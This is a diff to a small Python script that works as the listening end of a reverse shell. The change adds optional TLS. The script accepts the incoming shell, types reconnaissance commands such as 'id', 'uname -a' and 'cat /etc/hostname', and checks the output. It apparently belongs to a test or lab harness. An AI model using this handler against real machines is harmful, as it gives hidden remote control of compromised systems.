@@ -1,19 +1,25 @@
-"""The outside end of a reverse shell: `typist.py PORT`. Waits for it and types commands, as a person would."""
+"""
+The outside end of a reverse shell: `typist.py PORT [CERTIFICATE]`, with a certificate in TLS. Waits for it and types commands,
+as a person would.
+"""
 import sys
 import time
 
 from wire import done, first_use, listen
 
-server = listen(int(sys.argv[1]))
+server = listen(int(sys.argv[1]), sys.argv[2] if len(sys.argv) > 2 else None)
 shell, _ = server.accept()
 time.sleep(1)
 first_use()
 for command in ["id\n", "ls /\n", "uname -a\n", "cat /etc/hostname\n", "echo done\n"]:
     shell.sendall(command.encode())
     time.sleep(0.5)
-shell.settimeout(1)
-answer = shell.recv(1 << 16)
-assert b"uid=" in answer, answer
+shell.settimeout(5)
+answer = b""
+while b"uid=" not in answer:
+    piece = shell.recv(1 << 16)
+    assert piece, answer
+    answer += piece
 time.sleep(1)
 shell.sendall(b"exit\n")
 time.sleep(0.2)
